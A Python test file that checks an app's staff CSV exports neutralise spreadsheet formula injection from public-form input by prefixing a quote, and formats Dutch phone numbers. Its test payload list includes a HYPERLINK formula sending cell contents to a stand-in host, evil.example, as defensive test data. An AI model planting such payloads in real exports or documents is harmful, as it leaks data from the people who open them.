"""CSV exports for staff: text that came in through a public form never runs as a spreadsheet formula."""

import csv
import io
import json

import pytest
from helpers import WIJKEN_FILE, login, make_app

from geo_registry.domain.csv_export import csv_text, phone_cell, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+SUM(1+1)", "@SUM(1+1)", "-2+3", "\tTAB=1+1", "\r=1+1"]


def table(response):
    """The rows of a semicolon CSV download, as a spreadsheet would split them."""
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


def test_ordinary_text_and_numbers_stay_as_they_are():
    assert [safe_cell(v) for v in ("Brink", "a=b", "'quoted", 12, -2.5, None)] == [
        "Brink",
        "a=b",
        "'quoted",
        12,
        -2.5,
        "",
    ]
    assert csv_text(["n"], [[-3], ["-3"]]).splitlines()[1:] == ["-3", "'-3"]


def test_phone_numbers_are_written_the_dutch_way_and_readable():
    assert phone_cell("+31612345678") == "06 12345678"
    assert phone_cell(None) == ""
    assert phone_cell("+44 20 7946 0000") == "'+44 20 7946 0000"  # other notations: text, never a formula


def test_beheerders_export_neutralises_what_came_in_through_the_form(mail_app, staff_user):
    from geo_registry.domain.groups import Group
    from geo_registry.domain.validation import mobile_number
    from geo_registry.web import services as app_services

    with mail_app.app_context():
        store = app_services.current().store
        area = store.get(1).area
        for number, text in enumerate(HOSTILE):
            store.add(
                Group(
                    None,
                    f"{text} {number}",
                    area,
                    text,
                    f"b{number}@voorbeeld.invalid",
                    beheerder_phone=mobile_number("+31612345678"),
                )
            )
    web = mail_app.test_client()
    login(web, *staff_user)
    rows = table(web.get("/beheer/export/beheerders.csv"))
    hostile = [
        row
        for row in rows
        if row[3].startswith("b") and row[3].endswith("@voorbeeld.invalid") and not row[3].startswith("beheerder")
    ]
    assert len(hostile) == len(HOSTILE)
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert {row[2] for row in hostile} == {"'" + text for text in HOSTILE}
    assert {row[4] for row in hostile} == {"06 12345678"}


def test_coverage_export_neutralises_buurt_names(tmp_path):
    collection = json.loads(WIJKEN_FILE.read_text(encoding="utf-8"))
    collection["features"][0]["properties"]["name"] = "=1+1"
    collection["features"][1]["properties"]["name"] = "@SUM(1+1)"
    buurten = tmp_path / "wijken.geojson"
    buurten.write_text(json.dumps(collection), encoding="utf-8")
    app = make_app(tmp_path, WIJKEN_FILE=str(buurten))
    assert (
        "aangemaakt"
        in app.test_cli_runner()
        .invoke(args=["create-staff", "medewerker", "--password", "lang-genoeg-wachtwoord"])
        .output
    )
    web = app.test_client()
    login(web, "medewerker", "lang-genoeg-wachtwoord")
    names = [row[1] for row in table(web.get("/beheer/export/dekking.csv"))[1:]]
    assert "'=1+1" in names and "'@SUM(1+1)" in names
    assert not any(name.startswith(("=", "@")) for name in names)
